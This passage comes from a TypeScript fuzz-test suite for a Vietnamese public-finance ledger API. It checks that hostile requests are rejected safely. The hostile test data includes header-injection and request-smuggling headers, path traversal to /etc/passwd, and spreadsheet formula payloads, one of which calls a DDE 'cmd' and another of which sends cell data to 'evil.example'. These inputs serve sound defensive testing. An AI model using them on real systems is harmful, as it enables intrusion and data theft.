          '/reports/ket-qua-giai-ngan.pdf',
          '/forecasts',
          '/alerts',
          '/targets',
          '/jurisdictions',
          '/jurisdictions/tay-giang/units',
          '/contracts',
          '/reallocations/suggestions',
        ),
        fc.dictionary(
          fc.constantFrom(
            'on',
            'asOf',
            'allocationId',
            'fiscalYear',
            'fundingLine',
            'commune',
            'limit',
            'cursor',
            'from',
            'to',
            'asOf',
            'groupBy',
            '__proto__',
          ),
          hostileString,
        ),
        async (path, query) => {
          const res = await call('GET', `${path}?${new URLSearchParams(query)}`, { token });
          expect(res.status).toBeLessThan(500);
          if (res.status >= 400) expectErrorBody(res);
        },
      ),
      { numRuns: 60, seed: 11 },
    );
    run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 60;
  });

  it('answers hostile jurisdiction ids and days on the units route with a 4xx error body, never a 5xx', async () => {
    const token = await s.as('fuzz-auditor', 'auditor');
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          hostileString,
          fc.constantFrom('tay-giang', 'da-nang', 'TAY-GIANG', 'tay--giang', '-', 'a'.repeat(65)),
        ),
        fc.oneof(
          hostileString,
          fc.constantFrom('2025-02-29', '2024-02-30', '0000-00-00', '99999-01-01', '2025-7-1', '2025-07-01 '),
        ),
        async (id, on) => {
          fc.pre(id.isWellFormed()); // a lone surrogate cannot be percent-encoded into a URL
          const res = await call(
            'GET',
            `/jurisdictions/${encodeURIComponent(id)}/units?${new URLSearchParams({ on })}`,
            { token },
          );
          expect(res.status).toBeGreaterThanOrEqual(400);
          expect(res.status).toBeLessThan(500);
          expectErrorBody(res);
        },
      ),
      { numRuns: 60, seed: 17 },
    );
    run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 60;
  });

  it.each([
    ['GET', '/subscriptions/confirm', 'subscription-confirmation'],
    ['GET', '/alerts/acknowledge', 'alert-acknowledgement'],
    ['POST', '/alerts/acknowledge', 'alert-acknowledgement'],
  ] as const)(
    'answers hostile tokens on the public link route %s %s with a 4xx error body, changing nothing',
    async (method, path, purpose) => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            hostileString,
            fc.string({ maxLength: 3000 }),
            // Shaped like a real token: a base64url payload and a signature, neither of them ours.
            fc
              .tuple(fc.jsonValue({ maxDepth: 3 }), fc.uint8Array({ minLength: 0, maxLength: 40 }))
              .map(
                ([payload, sig]) =>
                  `${Buffer.from(JSON.stringify({ p: payload, q: purpose }) ?? '').toString('base64url')}.${Buffer.from(sig).toString('base64url')}`,
              ),
          ),
          async (token) => {
            const res = await call(method, `${path}?${new URLSearchParams({ token })}`);
            expect(res.status).toBeGreaterThanOrEqual(400);
            expect(res.status).toBeLessThan(500);
            expectErrorBody(res);
          },
        ),
        { numRuns: 60, seed: 13 },
      );
      run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 60;
    },
  );

  it('answers header injection sent over a raw socket with a 4xx, writes nothing and echoes nothing into headers', async () => {
    const finance = await s.as('fuzz-finance', 'finance');
    const planner = await s.as('fuzz-planner', 'planner');
    const bearer = `Bearer ${finance}`;
    const json = 'application/json';
    const key = () => randomUUID();
    // A body the API would accept: only the hostile header may stop it.
    const body = JSON.stringify({
      allocationId,
      amountVnd: 1_000_000,
      payee: { name: 'Hộ bà Y', kind: 'household' },
      purpose: 'Hỗ trợ sinh kế',
    });
    type Case = { name: string; headers: [string, string][]; method?: string; path?: string; body?: string };
    const write = (name: string, headers: [string, string][], extra: Partial<Case> = {}): Case => ({
      name,
      headers,
      body,
      ...extra,
    });
    const cases: Case[] = [
      write('NUL in Idempotency-Key', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', `${key()}\0`],
      ]),
      write('bare LF in Idempotency-Key', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', 'abc\nX-Injected: 1'],
      ]),
      write('bare CR in Idempotency-Key', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', 'abc\rX-Injected: 1'],
      ]),
      write('CRLF in Idempotency-Key adding a second key', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', `abc\r\nIdempotency-Key: ${key()}`],
      ]),
      write('Idempotency-Key given twice', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['Idempotency-Key', key()],
      ]),
      write('Idempotency-Key of 20 KB', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', 'k'.repeat(20_000)],
      ]),
      write('headers of 100 KB', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['X-Injected-Padding', 'p'.repeat(100_000)],
      ]),
      write('NUL in Content-Type', [
        ['Authorization', bearer],
        ['Content-Type', `${json}\0`],
        ['Idempotency-Key', key()],
      ]),
      write('CRLF in Content-Type adding a second one', [
        ['Authorization', bearer],
        ['Content-Type', `text/plain\r\nContent-Type: ${json}`],
        ['Idempotency-Key', key()],
      ]),
      write('Content-Type twice, text first', [
        ['Authorization', bearer],
        ['Content-Type', 'text/plain'],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
      ]),
      write('Content-Type charset utf-16', [
        ['Authorization', bearer],
        ['Content-Type', `${json}; charset=utf-16`],
        ['Idempotency-Key', key()],
      ]),
      write('Content-Type charset quoted latin-1', [
        ['Authorization', bearer],
        ['Content-Type', `${json}; charset="ISO-8859-1"`],
        ['Idempotency-Key', key()],
      ]),
      write('Content-Type with a CRLF-split parameter', [
        ['Authorization', bearer],
        ['Content-Type', `${json};\r\n charset=utf-16`],
        ['Idempotency-Key', key()],
      ]),
      write('Content-Type application/json-seq', [
        ['Authorization', bearer],
        ['Content-Type', 'application/json-seq'],
        ['Idempotency-Key', key()],
      ]),
      write('NUL in Authorization', [
        ['Authorization', `${bearer}\0`],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
      ]),
      write('CRLF in Authorization adding a valid one', [
        ['Authorization', `Bearer x\r\nAuthorization: ${bearer}`],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
      ]),
      write('Authorization twice, the bad one first', [
        ['Authorization', 'Bearer x.y.z'],
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
      ]),
      write('Authorization with LF inside the token', [
        ['Authorization', `Bearer ${finance.slice(0, 20)}\n${finance.slice(20)}`],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
      ]),
      write(
        'Transfer-Encoding and Content-Length together',
        [
          ['Authorization', bearer],
          ['Content-Type', json],
          ['Idempotency-Key', key()],
          ['Transfer-Encoding', 'chunked'],
          ['Content-Length', String(Buffer.byteLength(body))],
        ],
        { body: `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n` },
      ),
      write(
        'Transfer-Encoding chunked with a bad chunk size',
        [
          ['Authorization', bearer],
          ['Content-Type', json],
          ['Idempotency-Key', key()],
          ['Transfer-Encoding', 'chunked'],
        ],
        { body: `zz\r\n${body}\r\n0\r\n\r\n` },
      ),
      write('Transfer-Encoding not ending in chunked', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['Transfer-Encoding', 'chunked, identity'],
      ]),
      write('Transfer-Encoding xchunked', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['Transfer-Encoding', 'xchunked'],
      ]),
      write('Content-Length twice, different', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['Content-Length', String(Buffer.byteLength(body))],
        ['Content-Length', '5'],
      ]),
      write('Content-Length negative', [
        ['Authorization', bearer],
        ['Content-Type', json],
        ['Idempotency-Key', key()],
        ['Content-Length', '-1'],
      ]),
      {
        name: 'CRLF in a CSV export query and in Accept',
        method: 'GET',
        path: '/ledger/entries?fiscalYear=2024%0D%0AX-Injected:%201&format=csv',
        headers: [
          ['Authorization', `Bearer ${planner}`],
          ['Accept', 'text/csv\r\nX-Injected: 1'],
        ],
      },
      {
        name: 'NUL in Accept on a read',
        method: 'GET',
        path: `/requests/${requestId}`,
        headers: [
          ['Authorization', `Bearer ${planner}`],
          ['Accept', 'application/json\0'],
        ],
      },
    ];
    const statuses: Record<string, number> = {};
    for (const c of cases) {
      const res = await rawRequest(rt.url, {
        method: c.method ?? 'POST',
        path: c.path ?? '/requests',
        headers: c.headers,
        ...(c.body !== undefined ? { body: c.body } : {}),
      });
      run.figures.operations += 1;
      statuses[c.name] = res.status;
      expect(res.status, c.name).toBeGreaterThanOrEqual(400);
      expect(res.status, c.name).toBeLessThan(500);
      // The gateway's own answers carry the error body; Node's parser answers a bare 400/431 and closes.
      if (res.headers.some(([n, v]) => n === 'content-type' && v.includes('json'))) {
        expect(JSON.parse(res.body).error, c.name).toMatchObject({
          code: expect.any(String),
          message: expect.any(String),
        });
      }
      expect(res.head.toLowerCase(), `${c.name}: nothing echoed into headers`).not.toContain('injected');
      for (const [name, value] of res.headers) expect(`${name}: ${value}`, c.name).not.toMatch(/[\0\r\n]/);
    }
    run.figures.notes.headerInjectionCases = cases.length;
    run.figures.notes.headerInjectionStatuses = [...new Set(Object.values(statuses))].sort().join(',');
  });

  it('left the table exactly as it was: same items, same totals, no violation', async () => {
    const after = await run.check(rt);
    expect(after.violations).toEqual([]);
    const keysNow = await tableKeys();
    expect(keysNow.filter((k) => !keysBefore.includes(k))).toEqual([]);
    expect(keysNow).toHaveLength(keysBefore.length);
    const { items: _a, ...ledgerAfter } = after.counts;
    const { items: _b, ...ledgerBefore } = before.counts;
    expect(ledgerAfter).toEqual(ledgerBefore);
  });
});

describe('imports (issue 18): hostile files, queries and file names', () => {
  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  /** Anything a file could be: text, a zip's signature then noise, rows of noise split by ; or ,. */
  const hostileFile = fc.oneof(
    fc.string({ maxLength: 2000 }),
    fc.string({ unit: 'binary', maxLength: 400 }).map((rest) => `PK\u0003\u0004${rest}`),
    fc
      .array(fc.array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 6 }), { maxLength: 8 })
      .chain((rows) =>
        fc
          .constantFrom(';', ',')
          .map((sep) => `\uFEFFNăm kế hoạch${sep}Xã\n${rows.map((r) => r.join(sep)).join('\n')}`),
      ),
  );
  const hostileQuery = fc.record({
    kind: fc.oneof(
      fc.constantFrom('allocations', 'requests'),
      fc.constantFrom('', 'ALLOCATIONS', 'allocations ', 'reports', '__proto__'),
    ),
    dryRun: fc.constantFrom('true', 'false', '', 'TRUE', '1', 'yes'),
  });
  const hostileName = fc.oneof(
    fc
      .string({ maxLength: 60 })
      .filter((n) => n.isWellFormed())
      .map(encodeURIComponent),
    fc.constantFrom(
      '%E0%A4%A',
      '..%2F..%2Fetc%2Fpasswd',
      '%0D%0ASet-Cookie%3A%20x%3D1',
      '%00.xlsx',
      'a'.repeat(300),
    ),
  );

  it('answers any file with a 4xx error body (never a 5xx, never a success) and writes nothing', async () => {
    const token = await s.as('fuzz-planner', 'planner');
    const before = await run.check(rt);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(XLSX, 'text/csv'),
        hostileFile,
        hostileQuery,
        fc.option(hostileName, { nil: undefined }),
        async (contentType, body, query, fileName) => {
          const res = await call('POST', `/imports?${new URLSearchParams(query)}`, {
            token,
            body,
            headers: { 'content-type': contentType, ...(fileName ? { 'x-file-name': fileName } : {}) },
          });
          expect(res.status, JSON.stringify(res.body)).toBeGreaterThanOrEqual(400);
          expect(res.status, JSON.stringify(res.body)).toBeLessThan(500);
          expectErrorBody(res);
          const text = JSON.stringify(res.body);
          expect(text).not.toContain('Set-Cookie: x=1');
        },
      ),
      { numRuns: 60, seed: 18 },
    );
    run.figures.notes.fuzzedRequests = Number(run.figures.notes.fuzzedRequests ?? 0) + 60;
    const after = await run.check(rt);
    expect(after.counts).toEqual(before.counts);
  });

  it('answers a hostile import id or template name with a 4xx error body', async () => {
    const token = await s.as('fuzz-planner', 'planner');
    for (const path of [
      '/imports/..%2F..%2Fetc',
      `/imports/${'a'.repeat(65)}`,
      '/imports/templates/reports.xlsx',
      '/imports/templates/..%2Fallocations.xlsx',
      '/imports/templates/ALLOCATIONS.XLSX',
    ]) {
      const res = await call('GET', path, { token });
      expect(res.status, path).toBeGreaterThanOrEqual(400);
      expect(res.status, path).toBeLessThan(500);
      expectErrorBody(res);
    }
  });
});

describe('formula payloads in the spreadsheet export', () => {
  it('come out of the ledger CSV as inert text: no cell a spreadsheet would run, numbers still numbers', async () => {
    const payloads = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1)', '－1+1'];
    for (const name of payloads) {
      const submitted = await s.submit(allocationId, 1_000_000, 'csv-finance', undefined, {
        payee: { name, kind: 'contractor' },
        purpose: `@${name}`,
      });
      expect(submitted.status).toBe(201);
      await s.approveAll(submitted.body.id);
      run.figures.operations += 2;
    }
    const csv = await (
      await fetch(`${rt.url}/ledger/entries?fiscalYear=2024&format=csv`, {
        headers: { authorization: `Bearer ${await s.as('csv-auditor', 'auditor')}` },
      })
    ).text();
    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const cells = records.flatMap((r) => Object.values(r));
    const sheet = openInSpreadsheet(csv).flatMap((row) => Object.values(row));
    expect(records.map((r) => r.payeeName)).toEqual(expect.arrayContaining(payloads.map((p) => `'${p}`)));
    expect(cells.filter(looksRunnable)).toEqual([]);
    expect(sheet.filter((cell) => cell.f !== undefined)).toEqual([]);
    expect(records.every((r) => /^\d+$/.test(r.amountVnd ?? ''))).toBe(true);
    run.figures.notes.csvCellsSwept = cells.length;
  });
});

describe('one spelling per name, whatever the keyboard sent', () => {
  it('stores any Vietnamese name sent in NFD, NFC or a mix as its NFC form, and lists it once', async () => {
    const token = await s.as('spelling-finance', 'finance');
    const own = (await s.createAllocation({ commune: 'A Tiêng', amountVnd: 900_000_000 })).id;
    run.figures.operations += 1;
    const letters = [...'aăâeêioôơuưyđAĂÂEÊIOÔƠUƯYĐ'];
    const tones = ['', '\u0300', '\u0301', '\u0303', '\u0309', '\u0323'];
    const syllable = fc
      .tuple(
        fc.constantFrom('Ng', 'Tr', 'H', 'Đ', 'Ph', ''),
        fc.constantFrom(...letters),
        fc.constantFrom(...tones),
      )
      .map(([onset, vowel, tone]) => `${onset}${vowel}${tone}`.normalize('NFC'));
    const name = fc.array(syllable, { minLength: 2, maxLength: 4 }).map((parts) => `Hộ ${parts.join(' ')}`);
    await fc.assert(
      fc.asyncProperty(name, fc.constantFrom('NFD', 'NFKD', 'mixed'), async (nfc, form) => {
        const sent =
          form === 'mixed'
            ? [...nfc].map((c, i) => (i % 2 ? c.normalize('NFD') : c)).join('')
            : nfc.normalize(form as 'NFD' | 'NFKD');
        const res = await call('POST', '/requests', {
          token,
          headers: { 'idempotency-key': randomUUID() },
          body: {
            allocationId: own,
            amountVnd: 1_000_000,
            payee: { name: sent, kind: 'household' },
            purpose: sent,
          },
        });
        expect(res.status).toBe(201);
        expect(res.body.payee.name).toBe(nfc);
        expect(res.body.purpose).toBe(nfc);
      }),
      { numRuns: 15, seed: 13 },
    );
    const listed = await call('GET', `/requests?allocationId=${own}&limit=100`, { token });
    for (const r of listed.body.items as { payee: { name: string } }[]) {
      expect(r.payee.name).toBe(r.payee.name.normalize('NFC'));
    }
    run.figures.notes.spellingRequests = 15;
  });
});

describe('contracts (issue 15): another jurisdiction’s or commune’s contract', () => {
  it('answers 404 to a payment or amendment on another jurisdiction’s contract and 403 to another commune’s, writing nothing', async () => {
    const token = await s.as('contracts-auditor', 'auditor');
    const before = (await call('GET', `/contracts/${contractId}`, { token })).body;
    const theirs = await rt.token('contracts-da-nang-finance', ['finance'], { jurisdiction: 'da-nang' });
    const scoped = await rt.token('contracts-scoped-finance', ['finance'], { commune: 'A Nông' });
    for (const [caller, status] of [
      [theirs, 404],
      [scoped, 403],
    ] as const) {
      const payment = await call('POST', '/requests', {
        token: caller,
        headers: { 'idempotency-key': randomUUID() },
        body: { kind: 'advance', contractId, amountVnd: 1_000_000, purpose: 'Tạm ứng' },
      });
      const amendment = await call('POST', `/contracts/${contractId}/amendments`, {
        token: caller,
        body: { decisionNumber: '9/QĐ', reason: 'Thử', deltaVnd: 1 },
      });
      const read = await call('GET', `/contracts/${contractId}`, { token: caller });
      expect([payment.status, amendment.status, read.status]).toEqual([status, status, status]);
      expectErrorBody(payment);
      // Their lists leave it out: of its allocation, of its year; naming its commune is refused.
      for (const query of [`allocationId=${allocationId}`, 'fiscalYear=2024']) {
        const list = await call('GET', `/contracts?${query}`, { token: caller });
        expect(list.status).toBe(200);
        expect(list.body.items.map((c: { id: string }) => c.id)).not.toContain(contractId);
      }
      const named = await call('GET', '/contracts?commune=A%20Ti%C3%AAng', { token: caller });
      expect(named.status).toBe(status === 403 ? 403 : 400);
    }
    const listed = await call('GET', `/contracts?allocationId=${allocationId}`, { token });
    expect(listed.body.items).toEqual([before]);
    expect((await call('GET', `/contracts/${contractId}`, { token })).body).toEqual(before);
  });
});
